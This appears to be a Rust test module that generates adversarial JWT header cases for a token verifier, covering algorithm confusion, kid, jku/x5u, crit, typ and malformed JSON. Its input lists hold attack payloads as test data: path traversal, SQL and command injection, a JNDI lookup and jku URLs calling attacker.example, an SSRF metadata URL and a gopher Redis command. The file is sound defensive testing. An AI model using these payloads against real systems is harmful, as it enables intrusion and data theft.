//! What the header can say.

use super::Cause::{BadSignature, CriticalExtension, UnknownKey, WrongAlgorithm};
use super::Expected::{Accepted, NotOurs, TryRefresh};
use super::Family;
use super::draft::{Draft, Key, quoted};
use super::es256;
use testkit::keys;

/// JSON values that are no text.
pub(super) const NO_TEXTS: [&str; 9] =
    ["null", "true", "0", "5", "1.5", "[]", r#"["JWT"]"#, "{}", r#"{"a":"b"}"#];

/// Printable ASCII for a name: everything else escaped, and long texts cut.
pub(super) fn named(text: &str) -> String {
    let escaped = text.escape_default().to_string();
    let shown: String = escaped.chars().take(60).collect();
    if shown.len() < escaped.len() { format!("{shown}... ({} bytes)", text.len()) } else { shown }
}

/// Only the name of the key's own algorithm, letter for letter (RFC 8725 §3.1; RFC 7515 §4.1.1:
/// names are case-sensitive).
pub(super) fn algorithm_names(family: &mut Family) {
    const NAMES: [&str; 62] = [
        "none",
        "None",
        "NONE",
        "nOnE",
        "noNE",
        " none",
        "none ",
        "none\0",
        "n\u{6f}ne\u{200b}",
        "n\u{ff4f}ne",
        "",
        " ",
        "null",
        "undefined",
        "0",
        "HS256",
        "HS384",
        "HS512",
        "hs256",
        "HS1",
        "RS256",
        "rs256",
        "Rs256",
        "RS256 ",
        " RS256",
        "RS256\0",
        "RS256\n",
        "RS-256",
        "RS0256",
        "RS256,none",
        "RS384",
        "RS512",
        "RS1",
        "RSA",
        "RS256:RSASSA-PKCS1-v1_5",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "es256",
        "ES256 ",
        "ES256\0",
        "ES256K",
        "ES384",
        "ES512",
        "E\u{405}256",
        "R\u{405}256",
        "R\u{ff33}256",
        "EdDSA",
        "Ed25519",
        "ML-DSA-44",
        "SHA256withRSA",
        "RSA1_5",
        "RSA-OAEP",
        "A128KW",
        "A256GCMKW",
        "dir",
        "ECDH-ES",
        "PBES2-HS256+A128KW",
        "A128CBC-HS256",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "../../RS256",
    ];
    for key in Key::BOTH {
        for name in NAMES.into_iter().filter(|name| *name != key.algorithm()) {
            let draft = Draft::honest(key).header("alg", &quoted(name));
            let shown = named(name);
            let expected = TryRefresh(WrongAlgorithm);
            family.add(format!("{key:?}: \"{shown}\", signed"), draft.sign(), expected);
            family.add(format!("{key:?}: \"{shown}\", no signature"), draft.with(&[]), expected);
        }
        for json in NO_TEXTS {
            let token = Draft::honest(key).header("alg", json).sign();
            family.add(format!("{key:?}: {json}"), token, NotOurs);
        }
        family.add(
            format!("{key:?}: absent"),
            Draft::honest(key).without_header("alg").sign(),
            NotOurs,
        );
        let own = Draft::honest(key);
        family.add(format!("{key:?}: own, no signature"), own.with(&[]), TryRefresh(BadSignature));
    }
}

/// `kid` is looked up among our keys and used for nothing else; longer ones than ours can be are not
/// even looked up (RFC 8725 §3.10).
pub(super) fn key_ids(family: &mut Family) {
    const UNKNOWN: [&str; 63] = [
        "",
        " ",
        "d-",
        "s-",
        "d-0",
        "d-1",
        "d-1700000000002",
        "d-17000000000000",
        "d-170000000000",
        "D-1700000000000",
        "d-1700000000000 ",
        " d-1700000000000",
        "d-1700000000000\0",
        "d-1700000000000\n",
        "d-1700000000000\0.pem",
        "d-1700000000000/../d-1700000000001",
        "d-1700000000000,d-1700000000001",
        "d-1.7e12",
        "d-\u{661}700000000000",
        "d_1700000000000",
        "d\u{2010}1700000000000",
        "d\u{2212}1700000000000",
        "d\u{ff0d}1700000000000",
        "\u{ff44}-1700000000000",
        "\u{501}-1700000000000",
        "d-17\u{200b}00000000000",
        "d-170000000000\u{ff10}",
        "d-170000000000\u{41e}",
        "\u{feff}d-1700000000000",
        "d-1700000000000\u{301}",
        "d%2D1700000000000",
        "d-17000000*",
        "d-?700000000000",
        "*",
        "%",
        "_",
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "/etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "C:\\keys\\public.pem",
        "keys/public.pem",
        "https://attacker.example/keys.json",
        "//attacker.example/k",
        "' OR '1'='1",
        "x' UNION SELECT 'secret'--",
        "'; DROP TABLE Keys;--",
        "1 OR 1=1",
        "\" || true || \"",
        "{\"$ne\":null}",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "$(id)",
        "`id`",
        "|id",
        ";id",
        "<script>alert(1)</script>",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
    ];
    for key in Key::BOTH {
        let honest = Draft::honest(key);
        for kid in UNKNOWN {
            let token = honest.clone().header("kid", &quoted(kid)).sign();
            family.add(format!("{key:?}: \"{}\"", named(kid)), token, TryRefresh(UnknownKey));
        }
        for (len, expected) in [
            (127, TryRefresh(UnknownKey)),
            (128, TryRefresh(UnknownKey)),
            (129, NotOurs),
            (1000, NotOurs),
            (5000, NotOurs),
        ] {
            let kid = format!("{}{}", key.id(), "0".repeat(len - key.id().len()));
            let token = honest.clone().header("kid", &quoted(&kid)).sign();
            family.add(format!("{key:?}: {len} bytes"), token, expected);
        }
        for json in NO_TEXTS {
            let token = honest.clone().header("kid", json).sign();
            family.add(format!("{key:?}: {json}"), token, NotOurs);
        }
        family.add(
            format!("{key:?}: absent"),
            honest.clone().without_header("kid").sign(),
            NotOurs,
        );
        // The other key is found, and has another algorithm; with its algorithm the signature fails.
        let other = honest.clone().header("kid", &quoted(key.other().id()));
        family.add(format!("{key:?}: of the other key"), other.sign(), TryRefresh(WrongAlgorithm));
        let other = other.header("alg", &quoted(key.other().algorithm()));
        family.add(
            format!("{key:?}: of the other key, with its algorithm"),
            other.sign(),
            TryRefresh(BadSignature),
        );
    }
    let static_id = Draft::honest(Key::Rsa).header("kid", &quoted(keys::STATIC_ID)).sign();
    family.add("Rsa: of the static key", static_id, TryRefresh(BadSignature));
}

/// Keys and addresses that a header brings along are not looked at (RFC 8725 §3.10), and neither is a
/// parameter that we do not know (RFC 7515 §4): such a token is as good as its signature.
pub(super) fn parameters(family: &mut Family) {
    const IGNORED: &str = "unknown header parameters are ignored (RFC 7515 4); our key signed it";
    let attacker = keys::foreign("attacker").public_jwk();
    let attacker = serde_json::to_string(&attacker).unwrap();
    let ours = serde_json::to_string(&es256::public_jwk(1, Key::Ec.id())).unwrap();
    let parameters = [
        ("jku", r#""https://attacker.example/keys.json""#.to_owned()),
        ("jku", r#""https://api.example.com/auth/jwt/jwks.json""#.to_owned()),
        ("jku", r#""http://169.254.169.254/latest/meta-data/""#.to_owned()),
        ("jku", r#""file:///dev/null""#.to_owned()),
        ("x5u", r#""https://attacker.example/cert.pem""#.to_owned()),
        ("x5u", r#""gopher://127.0.0.1:6379/_flushall""#.to_owned()),
        ("jwk", attacker),
        ("jwk", ours),
        ("jwk", r#"{"kty":"oct","k":"c2VjcmV0"}"#.to_owned()),
        ("jwk", "null".to_owned()),
        ("x5c", r#"["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]"#.to_owned()),
        ("x5c", "[]".to_owned()),
        ("x5t", r#""AAAAAAAAAAAAAAAAAAAAAAAAAAA""#.to_owned()),
        ("x5t#S256", r#""AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA""#.to_owned()),
        ("b64", "true".to_owned()),
        ("zip", r#""DEF""#.to_owned()),
        ("zip", r#""GZ""#.to_owned()),
        ("zip", "null".to_owned()),
        ("enc", r#""A128GCM""#.to_owned()),
        ("cty", r#""JWT""#.to_owned()),
        ("epk", "{}".to_owned()),
        ("p2c", "2147483647".to_owned()),
        ("p2s", r#""AAAA""#.to_owned()),
        ("iss", r#""https://attacker.example""#.to_owned()),
        ("exp", "0".to_owned()),
        ("nonce", r#""n""#.to_owned()),
        ("ppt", r#""shaken""#.to_owned()),
        ("x", r#"{"deeply":[{"nested":[[["value"]]]}]}"#.to_owned()),
    ];
    for key in Key::BOTH {
        let foreign = if key == Key::Rsa { Key::ForeignRsa } else { Key::ForeignEc };
        for (index, (name, json)) in parameters.iter().enumerate() {
            let draft = Draft::honest(key).header(name, json);
            let shown = format!("{key:?}: {name}, {}", index + 1);
            family.add(format!("{shown}, signed by us"), draft.sign(), Accepted(IGNORED));
            family.add(
                format!("{shown}, signed by another"),
                draft.clone().signed_by(foreign).sign(),
                TryRefresh(BadSignature),
            );
            let own_name = draft.signed_by(foreign).header("kid", r#""attacker""#);
            family.add(
                format!("{shown}, signed by another under its own kid"),
                own_name.sign(),
                TryRefresh(UnknownKey),
            );
        }
    }
}

/// We know no extension, so a header that declares one critical is refused, and so is a declaration
/// that is none (RFC 7515 §4.1.11).
pub(super) fn critical_extensions(family: &mut Family) {
    const VALUES: [&str; 18] = [
        "[]",
        "null",
        "false",
        "true",
        "0",
        r#""""#,
        r#""b64""#,
        "{}",
        "[null]",
        "[1]",
        r#"[""]"#,
        r#"["exp"]"#,
        r#"["alg"]"#,
        r#"["b64"]"#,
        r#"["b64","b64"]"#,
        r#"["crit"]"#,
        r#"["http://example.com/unknown"]"#,
        r#"["exp","b64","unknown"]"#,
    ];
    for key in Key::BOTH {
        for json in VALUES {
            let draft = Draft::honest(key).header("crit", json);
            let expected = TryRefresh(CriticalExtension);
            family.add(format!("{key:?}: {json}"), draft.sign(), expected);
            let with_b64 = draft.header("b64", "false").header("exp", "1").sign();
            family.add(format!("{key:?}: {json}, with b64 false"), with_b64, expected);
        }
        for json in ["false", "null", "0", "1", r#""""#, r#""true""#, r#""false""#, "[]", "{}"] {
            let token = Draft::honest(key).header("b64", json).sign();
            family.add(format!("{key:?}: b64 {json}"), token, TryRefresh(CriticalExtension));
        }
    }
}

/// Exactly `JWT` (contract §5.1; RFC 8725 §3.11).
pub(super) fn types(family: &mut Family) {
    const TYPES: [&str; 24] = [
        "",
        " ",
        "jwt",
        "Jwt",
        "jWT",
        "JWT ",
        " JWT",
        "JWT\0",
        "JW\u{422}",
        "\u{ff2a}WT",
        "JWS",
        "JOSE",
        "JWE",
        "JOSE+JSON",
        "at+jwt",
        "AT+JWT",
        "application/jwt",
        "application/at+jwt",
        "id+jwt",
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "JWT;at",
        "JWT,JWT",
    ];
    for key in Key::BOTH {
        for typ in TYPES {
            let token = Draft::honest(key).header("typ", &quoted(typ)).sign();
            family.add(format!("{key:?}: \"{}\"", named(typ)), token, NotOurs);
        }
        for json in NO_TEXTS {
            let token = Draft::honest(key).header("typ", json).sign();
            family.add(format!("{key:?}: {json}"), token, NotOurs);
        }
        let absent = Draft::honest(key).without_header("typ").sign();
        family.add(format!("{key:?}: absent"), absent, NotOurs);
    }
}

/// Text that holds an integer of 3 or more (contract §5.3).
pub(super) fn versions(family: &mut Family) {
    const INTEGER: &str = "the text holds an integer of 3 or more (contract 5.3)";
    const TEXTS: [(&str, bool); 32] = [
        ("", false),
        (" ", false),
        ("2", false),
        ("1", false),
        ("0", false),
        ("-1", false),
        ("-5", false),
        ("02", false),
        ("five", false),
        ("5a", false),
        ("5.0", false),
        ("5.5", false),
        ("5e0", false),
        ("0x5", false),
        (" 5", false),
        ("5 ", false),
        ("5\0", false),
        ("5\n", false),
        ("\u{665}", false),
        ("\u{ff15}", false),
        ("V", false),
        ("5,5", false),
        ("1_000", false),
        ("4294967296", false),
        ("99999999999999999999", false),
        ("NaN", false),
        ("Infinity", false),
        ("3", true),
        ("05", true),
        ("+5", true),
        ("7", true),
        ("4294967295", true),
    ];
    for key in Key::BOTH {
        for (text, is_integer) in TEXTS {
            let token = Draft::honest(key).header("version", &quoted(text)).sign();
            let expected = if is_integer { Accepted(INTEGER) } else { NotOurs };
            family.add(format!("{key:?}: \"{}\"", named(text)), token, expected);
        }
        for json in NO_TEXTS {
            let token = Draft::honest(key).header("version", json).sign();
            family.add(format!("{key:?}: {json}"), token, NotOurs);
        }
    }
}

/// Texts that are no JSON object, though they hold one or look like one; each rightly signed.
///
/// Members of one name twice are refused too: RFC 7515 §4 and RFC 7519 §4 leave the choice between
/// that and the last one, and a reader in front of us may have chosen otherwise.
pub(super) fn malformed(object: &str) -> Vec<(&'static str, Vec<u8>)> {
    let utf_16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let inner = &object[1..object.len() - 1];
    let mut texts: Vec<(&'static str, Vec<u8>)> = [
        ("empty", String::new()),
        ("white space", "  ".to_owned()),
        ("null", "null".to_owned()),
        ("true", "true".to_owned()),
        ("number", "1".to_owned()),
        ("string", quoted(object)),
        ("empty object", "{}".to_owned()),
        ("empty array", "[]".to_owned()),
        ("array of the object", format!("[{object}]")),
        ("array of values", r#"["RS256","JWT","d-1700000000000","5"]"#.to_owned()),
        ("object in an object", format!("{{\"a\":{object}}}")),
        ("no braces", inner.to_owned()),
        ("not closed", format!("{{{inner}")),
        ("closed twice", format!("{object}}}")),
        ("two objects", format!("{object}{object}")),
        ("object and text", format!("{object}x")),
        ("object and NUL", format!("{object}\0")),
        ("NUL and object", format!("\0{object}")),
        ("byte order mark", format!("\u{feff}{object}")),
        ("no-break space", format!("{object}\u{a0}")),
        ("trailing comma", format!("{{{inner},}}")),
        ("leading comma", format!("{{,{inner}}}")),
        ("line comment", format!("{{//\n{inner}}}")),
        ("block comment", format!("{{/**/{inner}}}")),
        ("single quotes", object.replace('"', "'")),
        ("unquoted names", object.replace("{\"alg\"", "{alg").replace("{\"sub\"", "{sub")),
        ("equals signs", object.replace(':', "=")),
        ("NaN", format!("{{{inner},\"x\":NaN}}")),
        ("Infinity", format!("{{{inner},\"x\":Infinity}}")),
        ("undefined", format!("{{{inner},\"x\":undefined}}")),
        ("leading zero", format!("{{{inner},\"x\":01}}")),
        ("number with a plus", format!("{{{inner},\"x\":+1}}")),
        ("number that is too large", format!("{{{inner},\"x\":1e999}}")),
        ("raw line feed in a text", format!("{{{inner},\"x\":\"\n\"}}")),
        ("raw NUL in a text", format!("{{{inner},\"x\":\"\0\"}}")),
        ("lone surrogate in a value", format!("{{{inner},\"x\":\"\\ud800\"}}")),
        ("lone surrogate in a name", format!("{{{inner},\"\\udfff\":1}}")),
        ("wrong escape", format!("{{{inner},\"x\":\"\\x41\"}}")),
        ("second member of an unknown name", format!("{{{inner},\"x\":1,\"x\":1}}")),
        ("second member in other spelling", format!("{{{inner},\"x\":1,\"\\u0078\":1}}")),
        ("second empty name", format!("{{{inner},\"\":1,\"\":1}}")),
        ("JSON5", format!("{{{inner},x:.5}}")),
        ("YAML", "alg: RS256\ntyp: JWT\n".to_owned()),
    ]
    .map(|(name, text)| (name, text.into_bytes()))
    .into();
    texts.extend([
        ("UTF-16", utf_16(object)),
        ("UTF-16 with byte order mark", utf_16(&format!("\u{feff}{object}"))),
        ("byte FF in a text", [b"{\"x\":\"\xff\",", inner.as_bytes(), b"}"].concat()),
        ("overlong slash in a text", [b"{\"x\":\"\xc0\xaf\",", inner.as_bytes(), b"}"].concat()),
        ("CBOR", b"\xa2\x63alg\x65RS256\x63typ\x63JWT".to_vec()),
    ]);
    texts
}

/// Other spellings of the same object, which JSON allows (RFC 8259 §2, §7).
pub(super) fn respelled(object: &str, name: &str) -> [(&'static str, String); 5] {
    let inner = &object[1..object.len() - 1];
    let escaped: String = name.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    [
        ("white space around", format!(" \t\r\n{object}\n ")),
        ("white space inside", format!("{{ {} }}", inner.replace(',', " ,\n"))),
        ("escaped name", object.replace(&format!("\"{name}\""), &format!("\"{escaped}\""))),
        ("empty name", format!("{{{inner},\"\":null}}")),
        ("delete in a text", format!("{{{inner},\"x\":\"\u{7f}\"}}")),
    ]
}

/// The same value in other spelling is the same value.
pub(super) const SAME_VALUE: &str = "JSON leaves spelling free (RFC 8259 2, 7)";

/// The header is one JSON object with different names, and nothing else.
pub(super) fn texts(family: &mut Family) {
    for key in Key::BOTH {
        let honest = Draft::honest(key);
        for (name, text) in malformed(&honest.header_text()) {
            family.add(format!("{key:?}: {name}"), honest.sign_header(&text), NotOurs);
        }
        for (name, text) in respelled(&honest.header_text(), "alg") {
            let token = honest.sign_header(text.as_bytes());
            family.add(format!("{key:?}: {name}"), token, Accepted(SAME_VALUE));
        }
        for (member, other) in [
            ("alg", "none"),
            ("alg", key.algorithm()),
            ("alg", key.other().algorithm()),
            ("kid", key.id()),
            ("kid", key.other().id()),
            ("typ", "JWT"),
            ("typ", "at+jwt"),
            ("version", "5"),
            ("version", "2"),
        ] {
            let twice = honest.clone().also_header(&quoted(member), &quoted(other)).sign();
            family.add(format!("{key:?}: {member} twice, then \"{other}\""), twice, NotOurs);
        }
        // Names are case-sensitive: these are unknown parameters, and the right ones are missing.
        for member in ["alg", "kid", "typ"] {
            let text = honest.header_text().replace(member, &member.to_uppercase());
            let token = honest.sign_header(text.as_bytes());
            family.add(format!("{key:?}: {member} in capitals"), token, NotOurs);
        }
        let crit = honest.clone().also_header(r#""\u0063rit""#, r#"["exp"]"#).sign();
        family.add(format!("{key:?}: crit in other spelling"), crit, TryRefresh(CriticalExtension));
    }
}
